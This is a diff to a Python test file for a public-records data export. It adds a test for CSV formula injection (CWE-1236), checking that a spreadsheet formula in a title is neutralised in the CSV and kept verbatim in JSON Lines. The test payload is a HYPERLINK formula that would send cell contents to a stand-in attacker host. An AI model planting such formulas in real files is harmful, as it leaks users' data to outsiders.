@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import gzip
 import hashlib
 import io
@@ -120,6 +121,20 @@ def test_the_case_table_has_no_free_text_and_withholds_rare_countries(published,
     assert all(country in {"", bulk.WITHHELD_COUNTRY} or kind for kind, country in countries)
     assert {r["country"] for r in rows} == {bulk.WITHHELD_COUNTRY}
     assert rows[0]["received_on"] == "2026-02-01" and rows[0]["decided_on"] == "2026-03-01"
+
+
+def test_a_title_a_spreadsheet_would_run_is_text_in_the_csv_and_as_published_in_the_other_formats(published, tmp_path):
+    """CSV injection (CWE-1236): the redaction review passes a title; opening notices.csv must not run it
+    (core.cells). JSON Lines and Parquet, read by programs, carry the title exactly as published."""
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    PublicRecord.objects.update(title=attack)
+    out, _package = _release(tmp_path)
+    with gzip.open(out / "notices.csv.gz", "rt", newline="") as handle:
+        titles = {row["title"] for row in csv.DictReader(handle)}
+    with gzip.open(out / "notices.jsonl.gz", "rt") as handle:
+        exact = {json.loads(line)["title"] for line in handle}
+    assert titles == {"'" + attack}
+    assert exact == {attack}
 
 
 def test_figures_are_the_public_report_with_small_counts_withheld(published, tmp_path):
